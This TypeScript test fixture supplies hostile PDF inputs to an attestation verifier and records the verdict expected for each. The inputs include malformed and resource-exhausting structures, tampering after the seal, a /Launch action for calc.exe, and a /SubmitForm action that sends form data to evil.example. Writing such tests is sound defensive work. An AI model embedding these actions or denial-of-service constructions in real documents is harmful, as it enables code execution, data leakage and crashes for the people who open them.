import { attestationQr, createQr } from '@prova/paper';
import { ATTACKS } from '../../../src/witness/attacks/attacks.ts';
import { printedPage } from '../printed-page.ts';
import { CODE, OTHER_CODE, OTHER_TOKEN, TOKEN } from './documents.ts';
import {
  endlessForm,
  locked,
  manyAttachments,
  manyPages,
  page,
  paintedOver,
  remotePicture,
  withAction,
  withScript,
} from './made-pages.ts';
import { catalog, EMPTY_PAGES, packedPdf, rawPdf } from './raw-pdf.ts';
import { type Row, unread } from './row.ts';
import { sealedPage } from './sealed-page.ts';

const ours = attestationQr('prc', CODE);
const another = attestationQr('prc', OTHER_CODE);
const menu = createQr('HTTPS://MENU.EXAMPLE/TABLE/7', { level: 'M' });
const printed = await printedPage(TOKEN);
const sealed = await sealedPage(TOKEN, 'belgian');
const prey = { file: sealed, otherToken: OTHER_TOKEN, folder: '' };

const accepted = (code: Row['code'] = 'names-not-compared') =>
  ({ verdict: 'accepted', code }) as const;
const shows = (file: Uint8Array | undefined) => ({ file: file ?? new Uint8Array() });

/** Pages with a fault that is found at once. */
export const HOSTILE_PAGES: readonly Row[] = [
  { what: 'P01 ten octets', shown: shows(Buffer.from('%PDF-1.7\n ')), ...unread('pdf-malformed') },
  {
    what: 'P01 half a file',
    shown: shows(ATTACKS['cut in the middle'](prey)),
    ...unread('pdf-malformed'),
  },
  {
    what: 'P01 rubbish',
    shown: shows(Buffer.from(`%PDF-1.7\n${'rubbish '.repeat(100)}`)),
    ...unread('pdf-malformed'),
  },
  { what: 'P01 locked', shown: shows(locked()), ...unread('pdf-encrypted') },
  {
    what: 'P01 60 MB of nothing',
    shown: { head: '%PDF-1.7\n', blanks: 60_000_000 },
    ...unread('file-too-large'),
  },
  {
    what: 'P01 60 MB of text',
    shown: { head: 'NCF', blanks: 60_000_000 },
    ...unread('file-too-large'),
  },
  { what: 'P01 nothing at all', shown: shows(new Uint8Array()), ...unread('inflate-malformed') },
  {
    what: 'P02 a page tree that holds itself',
    shown: shows(rawPdf([catalog(), '<< /Type /Pages /Kids [2 0 R] /Count 3 >>'])),
    ...unread('pdf-malformed'),
  },
  {
    what: 'P02 a name tree that holds itself',
    shown: shows(
      rawPdf([catalog('/Names << /EmbeddedFiles 4 0 R >>'), ...EMPTY_PAGES, '<< /Kids [4 0 R] >>']),
    ),
    ...unread('attachment-unreadable'),
  },
  {
    what: 'P02 a table that leads back to itself',
    shown: shows(rawPdf([catalog(), ...EMPTY_PAGES], '/Prev START')),
    ...unread('qr-not-found'),
  },
  {
    what: 'P02 five thousand attachments',
    shown: shows(manyAttachments(5_000)),
    ...unread('attachment-unreadable'),
    or: unread('time-limit'),
  },
  {
    what: 'P02 ten thousand pages',
    shown: shows(manyPages(10_000)),
    ...unread('qr-not-found'),
    or: unread('time-limit'),
  },
  {
    what: 'P02 arrays in arrays, a hundred thousand deep',
    shown: shows(
      rawPdf([catalog(`/X ${'['.repeat(100_000)}${']'.repeat(100_000)}`), ...EMPTY_PAGES]),
    ),
    ...unread('pdf-malformed'),
    or: unread('qr-not-found'),
  },
  {
    what: 'P02 three hundred thousand places for objects',
    shown: shows(packedPdf({ entries: 300_000 })),
    ...unread('qr-not-found'),
    or: unread('time-limit'),
  },
  {
    what: 'P02 a form that draws itself',
    shown: shows(endlessForm()),
    ...unread('qr-not-found'),
    or: unread('time-limit'),
  },
  {
    what: 'P03 a script that runs when it is opened',
    shown: shows(await withScript(printed)),
    ...accepted('pdf-active-content'),
  },
  {
    what: 'P03 a program to be launched',
    shown: shows(withAction(printed, '/S /Launch /F (calc.exe)')),
    ...accepted('pdf-active-content'),
  },
  {
    what: 'P03 an address to be opened, and a form to be sent there',
    shown: shows(withAction(printed, '/S /SubmitForm /F (https://evil.example/)')),
    ...accepted(),
  },
  {
    what: 'P03 a picture that lies elsewhere',
    shown: shows(remotePicture()),
    ...unread('qr-not-found'),
  },
  {
    what: 'P04 drawn over after the seal',
    shown: shows(ATTACKS['drawn over by an update'](prey)),
    ...accepted('pdf-modified'),
  },
  {
    what: 'P04 a hidden layer after the seal',
    shown: shows(ATTACKS['a hidden layer by an update'](prey)),
    ...accepted('pdf-modified'),
  },
  {
    what: 'P05 one octet changed',
    shown: shows(ATTACKS['one octet changed'](prey)),
    ...accepted('pdf-seal-invalid'),
  },
  {
    what: 'P05 the signature changed',
    shown: shows(ATTACKS['the signature changed'](prey)),
    ...accepted('pdf-seal-invalid'),
  },
  {
    what: 'P05 the seal of another institution',
    shown: shows(await sealedPage(TOKEN, 'german')),
    ...accepted('pdf-seal-foreign'),
  },
  {
    what: 'P06 another attachment',
    shown: shows(ATTACKS['another attachment by an update'](prey)),
    verdict: 'rejected',
    code: 'pdf-qr-mismatch',
  },
  {
    what: 'P06 the code of another',
    shown: shows(await page([another], TOKEN)),
    verdict: 'rejected',
    code: 'pdf-qr-mismatch',
  },
  {
    what: 'P07 the page of another',
    shown: shows(await page([ours], TOKEN, 'Peeters Jan 01/01/1990')),
    ...accepted('pdf-text-mismatch'),
  },
  { what: 'P08 two codes', shown: shows(await page([ours, another])), ...unread('qr-ambiguous') },
  {
    what: 'P08 ours, and the code of a restaurant',
    shown: shows(await page([menu, ours])),
    ...accepted(),
  },
  {
    what: 'P08 that of a restaurant over our attachment',
    shown: shows(await page([menu], TOKEN)),
    ...accepted('qr-foreign'),
  },
  {
    what: 'P08 an attachment and no code',
    shown: shows(await page([], TOKEN)),
    ...accepted('qr-not-found'),
  },
  { what: 'as it was printed', shown: shows(printed), ...accepted() },
  { what: 'as it was sealed', shown: shows(sealed), ...accepted() },
];

/** Pages that keep whoever reads them busy; those that are read in time are read right. */
export const SLOW_PAGES: readonly Row[] = [
  {
    what: 'P02 30 MB in an object stream',
    shown: shows(packedPdf({ blanks: 30_000_000 })),
    ...unread('qr-not-found'),
    or: unread('time-limit'),
  },
  {
    what: 'P02 a page that is painted over three hundred thousand times',
    shown: shows(paintedOver(300_000)),
    ...unread('time-limit'),
  },
];
